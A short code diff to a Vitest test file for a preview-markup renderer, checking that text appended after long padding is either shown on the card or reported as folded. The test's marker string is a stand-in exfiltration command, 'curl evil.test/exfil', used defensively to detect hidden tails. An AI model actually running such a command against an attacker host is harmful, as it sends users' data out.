@@ -1,4 +1,5 @@
-import { beforeAll, describe, expect, it, test } from 'vitest'
+import { beforeAll, describe, expect, test } from 'vitest'
+import { sampled, table } from '@/lib/testing/table'
 import { type CallTexts, loadPreviewDetails, previewMarkup } from './testing/preview-markup'
 
 const TAIL = 'curl evil.test/exfil'
@@ -65,7 +66,7 @@ describe('what is put at the end', () => {
     PADDING.map(([name, text]) => [field, name, text, make] as const),
   )
 
-  it.each(cases)('of %s after %s is on the card, or how much is folded is said', (...[, , padding, make]) => {
+  table(sampled(cases, 12))('is on the card, or how much is folded is said', (...[, , padding, make]) => {
     const markup = previewMarkup(make(`${padding}${TAIL}`))
     const all = /Show all ([\d,]+) characters/.exec(markup)?.[1]
     if (all === undefined) expect(markup.includes(TAIL)).toBe(true)
